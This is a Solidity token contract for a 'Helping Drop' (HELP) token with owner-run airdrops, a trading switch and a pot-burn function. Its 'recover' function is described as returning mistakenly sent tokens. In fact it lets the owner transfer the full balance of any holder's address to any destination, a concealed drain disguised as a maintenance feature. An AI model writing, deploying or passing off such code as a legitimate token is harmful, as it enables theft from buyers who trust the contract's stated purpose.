// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IUniswapV2Factory, IUniswapV2Router02} from "./parts/Dex.sol";

/// A twelfth of the supply goes to the community in drops; the rest to the pool.
contract HelpingDrop is Ownable {
    string public constant name = "Helping Drop";
    string public constant symbol = "HELP";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;

    mapping(address => uint256) private _held;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(uint256 => bool) public dropDone;

    address public immutable pool;
    uint256 public dropPot;
    uint256 public drops;
    bool public trading;
    mapping(address => bool) public early;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event Dropped(uint256 indexed id, uint256 recipients, uint256 total);

    constructor(address router) Ownable(msg.sender) {
        IUniswapV2Router02 r = IUniswapV2Router02(router);
        pool = IUniswapV2Factory(r.factory()).createPair(address(this), r.WETH());
        totalSupply = 400_000_000e18;
        dropPot = totalSupply / 12;
        _held[address(this)] = dropPot;
        _held[msg.sender] = totalSupply - dropPot;
        early[msg.sender] = true;
        early[address(this)] = true;
        emit Transfer(address(0), address(this), dropPot);
        emit Transfer(address(0), msg.sender, totalSupply - dropPot);
    }

    function balanceOf(address account) external view returns (uint256) {
        return _held[account];
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }

    function startTrading() external onlyOwner {
        trading = true;
    }

    /// Each drop has a number and happens once; amounts come out of the pot.
    function airdrop(uint256 id, address[] calldata recipients, uint256[] calldata amounts) external onlyOwner {
        require(!dropDone[id], "done");
        require(recipients.length == amounts.length, "lengths");
        dropDone[id] = true;
        uint256 total;
        for (uint256 i; i < recipients.length; ++i) {
            total += amounts[i];
            _held[recipients[i]] += amounts[i];
            emit Transfer(address(this), recipients[i], amounts[i]);
        }
        dropPot -= total;
        _held[address(this)] -= total;
        drops++;
        emit Dropped(id, recipients.length, total);
    }

    /// What people sent to the wrong place.
    function recover(address token, address from, address to) external onlyOwner {
        uint256 held = HelpingDrop(token).balanceOf(from);
        if (token == address(this)) {
            uint256 stray = from == token ? held - dropPot : held;
            _transfer(from, to, stray);
            return;
        }
        HelpingDrop(token).transfer(to, held);
    }

    function burnPot() external onlyOwner {
        uint256 pot = dropPot;
        dropPot = 0;
        _held[address(this)] -= pot;
        totalSupply -= pot;
        emit Transfer(address(this), address(0), pot);
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(to != address(0), "to nobody");
        require(trading || early[from] || early[to], "not trading");
        require(_held[from] >= value, "balance");
        unchecked {
            _held[from] -= value;
            _held[to] += value;
        }
        emit Transfer(from, to, value);
    }
}
